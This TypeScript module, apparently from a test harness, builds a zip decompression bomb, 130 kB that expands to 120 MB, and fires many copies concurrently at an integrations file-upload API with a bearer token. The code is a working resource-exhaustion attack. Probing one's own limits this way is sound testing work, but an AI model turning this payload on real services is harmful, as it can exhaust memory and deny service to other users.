/** An archive that is small and unpacks to more than anybody's share of the memory, and many of them at once. */
import { ZipFile } from 'yazl'
import type { Target } from './target.ts'

const mb = 1024 * 1024

/** 120 MB of files that each are what an integration may hold, in 130 kB. */
export async function archiveBomb(): Promise<Buffer> {
  const archive = new ZipFile()
  const bytes = Buffer.alloc(6 * mb - 1, 'a')
  for (let i = 0; i < 20; i++) archive.addBuffer(bytes, `scripts/s.${i.toString(16).padStart(24, '0')}.js`)
  archive.end()
  const chunks: Buffer[] = []
  for await (const chunk of archive.outputStream) chunks.push(chunk as Buffer)
  return Buffer.concat(chunks)
}

/** Statuses and answers. */
export const sendArchives = (
  { url, token }: Target,
  integrationId: string,
  body: Buffer,
  count: number,
): Promise<(readonly [status: number, text: string])[]> =>
  Promise.all(
    Array.from({ length: count }, async () => {
      const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/zip' }
      const answer = await fetch(`${url}/v1/integrations/${integrationId}/files`, { method: 'PUT', headers, body })
      return [answer.status, await answer.text()] as const
    }),
  )
